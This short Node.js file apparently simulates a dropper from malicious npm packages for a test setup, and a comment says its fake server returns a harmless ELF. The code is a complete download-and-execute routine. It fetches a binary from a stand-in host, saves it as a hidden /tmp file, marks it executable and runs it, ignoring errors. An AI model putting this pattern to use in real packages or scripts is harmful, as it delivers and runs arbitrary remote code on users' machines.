// Imitates a Node.js dropper (as found in malicious npm packages): downloads a "binary" into /tmp, makes
// it executable and runs it. The fake web answers a tiny ELF that only exits.
'use strict';
const http = require('node:http');
const fs = require('node:fs');
const { execFileSync } = require('node:child_process');

const target = '/tmp/.node-helper';
http.get('http://registry-cdn.npmdrop.test/dist/helper-linux-x64.bin', (response) => {
  const chunks = [];
  response.on('data', (chunk) => chunks.push(chunk));
  response.on('end', () => {
    fs.writeFileSync(target, Buffer.concat(chunks));
    fs.chmodSync(target, 0o755);
    try {
      execFileSync(target, ['--quiet']);
    } catch {
      // the payload's exit status does not matter to the dropper
    }
  });
}).on('error', () => process.exit(1));
